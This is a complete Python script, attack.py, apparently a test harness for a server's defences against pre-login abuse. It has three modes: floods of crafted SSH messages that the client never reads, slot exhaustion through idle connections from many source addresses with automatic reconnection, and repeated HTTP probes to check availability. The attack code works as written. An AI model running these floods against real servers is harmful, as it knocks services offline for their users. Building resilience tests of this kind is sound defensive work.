"""Peers that mean harm, before any of them has logged in.

    attack.py HOST PORT unread COUNT SECONDS     asks without end, and takes no answer
    attack.py HOST PORT silent COUNT SOURCE...   connects that often, over all of these addresses, and says nothing
    attack.py HOST PORT probe COUNT              asks for a web page, that often

`unread` prints how many bytes all of them got rid of and how many connections the server ended; `silent` prints "connected",
and holds on, taking a new place for each one that it loses, until it is killed.
"""

import selectors
import socket
import sys
import time

# A message that no one knows (RFC 4253 sections 6 and 11.4), each of which is answered: 12 bytes, 10 of them padding.
QUESTION = b"\x00\x00\x00\x0c\x0a\xc8" + bytes(10)


def unread(host, port, count, seconds):
    peers = [socket.create_connection((host, port)) for _ in range(int(count))]
    for peer in peers:
        peer.sendall(b"SSH-2.0-attack\r\n")
        peer.setblocking(False)
    block = QUESTION * 4096
    # Where each goes on in the block, so that every message is whole.
    places = dict.fromkeys(peers, 0)
    sent, ended, end = 0, 0, time.monotonic() + float(seconds)
    while peers and time.monotonic() < end:
        progress = False
        for peer in list(peers):
            try:
                count = peer.send(memoryview(block)[places[peer] :])
                places[peer] = (places[peer] + count) % len(block)
                sent += count
                progress = True
            except BlockingIOError:
                pass
            except OSError:
                peers.remove(peer)
                ended += 1
        if not progress:
            time.sleep(0.01)
    print(f"sent {sent} ended {ended}", flush=True)


def connect(host, port, source):
    try:
        peer = socket.create_connection((host, port), timeout=3, source_address=(source, 0))
    except OSError:
        return None
    peer.setblocking(False)
    return peer


def silent(host, port, count, *sources):
    selector = selectors.DefaultSelector()
    wanted = [sources[number % len(sources)] for number in range(int(count))]
    for source in wanted:
        if peer := connect(host, port, source):
            selector.register(peer, selectors.EVENT_READ, source)
    print("connected", flush=True)
    while True:
        for key, _ in selector.select(1):
            try:
                if key.fileobj.recv(4096):
                    continue
            except BlockingIOError:
                continue
            except OSError:
                pass
            selector.unregister(key.fileobj)
            key.fileobj.close()
            # As a program would that wants to keep its place; not so fast that it does nothing else.
            time.sleep(0.002)
            if peer := connect(host, port, key.data):
                selector.register(peer, selectors.EVENT_READ, key.data)


def probe(host, port, count):
    for _ in range(int(count)):
        with socket.create_connection((host, port), timeout=5) as peer:
            peer.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
            try:
                while peer.recv(4096):
                    pass
            except OSError:
                pass
    print("probed", flush=True)


host, port, attack, *words = sys.argv[1:]
{"unread": unread, "silent": silent, "probe": probe}[attack](host, int(port), *words)
